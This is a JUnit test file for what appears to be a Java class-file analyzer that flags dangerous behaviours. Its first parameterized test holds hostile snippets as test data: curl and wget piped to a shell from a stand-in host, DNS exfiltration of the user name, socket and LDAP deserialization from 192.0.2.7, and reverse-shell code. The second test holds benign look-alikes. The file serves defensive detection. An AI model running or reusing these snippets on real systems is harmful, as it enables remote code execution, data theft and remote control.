package cordon.inspect.jvm;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import cordon.inspect.chain.Need;
import cordon.inspect.chain.NeedReader;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What classes have other programs, connections and object streams do. */
final class ClassCommandsTest {

  private static boolean does(String body, String need) {
    Need wanted = NeedReader.read(need);
    return ClassFileReaderTest.facts(body).stream().anyMatch(wanted::fits);
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " ## ",
      quoteCharacter = '~',
      textBlock =
          """
          run-code<fetch ## Runtime.getRuntime().exec(new String[] {"sh", "-c", "curl -s https://x.example/i.sh | bash"});
          run-code<fetch ## new ProcessBuilder("bash", "-c", "wget -qO- http://x.example/i | sh").start();
          send<host-info ## InetAddress.getByName(System.getProperty("user.name") + ".d.callback.example");
          load-object<fetch ## new ObjectInputStream(new Socket("192.0.2.7", 4444).getInputStream()).readObject();
          load-object<fetch ## new javax.naming.InitialContext().lookup("ldap://192.0.2.7/a");
          remote-control ## Process p = new ProcessBuilder("/bin/sh").start(); OutputStream o = new Socket("192.0.2.7", 4444).getOutputStream(); o.write(p.getInputStream().read());
          remote-control ## Process p = new ProcessBuilder("/bin/sh").start(); p.getOutputStream().write(new Socket("192.0.2.7", 4444).getInputStream().read());
          """)
  void whatIsDoneThroughOthersIsTold(String need, String body) {
    assertTrue(does(body, need), () -> body + ": " + ClassFileReaderTest.facts(body));
  }

  @ParameterizedTest
  @CsvSource(
      delimiterString = " ## ",
      quoteCharacter = '~',
      textBlock =
          """
          run-code<fetch ## Runtime.getRuntime().exec(new String[] {"sh", "-c", "ls | sort"});
          send<host-info ## InetAddress.getByName(InetAddress.getLocalHost().getHostName());
          send<host-info ## InetAddress.getByName("registry.example");
          load-object<fetch ## new ObjectInputStream(new FileInputStream(given)).readObject();
          load-object<fetch ## new javax.naming.InitialContext().lookup("java:comp/env");
          remote-control ## Process p = new ProcessBuilder("ls").start(); System.out.write(p.getInputStream().read());
          remote-control ## OutputStream o = new Socket(given, 80).getOutputStream(); o.write(1);
          """)
  void whatOnlyLooksLikeItIsNot(String need, String body) {
    assertFalse(does(body, need), () -> body + ": " + ClassFileReaderTest.facts(body));
  }
}
